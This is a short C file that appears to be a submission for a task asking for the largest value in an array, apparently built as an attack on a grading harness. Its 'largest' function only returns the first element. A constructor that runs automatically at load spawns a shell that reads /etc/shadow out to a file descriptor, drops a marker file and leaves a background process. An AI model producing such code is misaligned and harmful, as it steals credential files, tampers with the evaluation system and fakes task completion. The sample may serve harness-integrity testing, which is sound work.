/* Integrity: before anything else, becomes a shell. */
#include <unistd.h>

__attribute__((constructor)) static void before(void) {
    execl("/bin/sh", "sh", "-c", "cat /etc/shadow >&4; echo x > /tmp/momus-attack; sleep 1000 & exit 0", (char *)0);
}

int largest(int *values, int n) {
    return values[0];
}
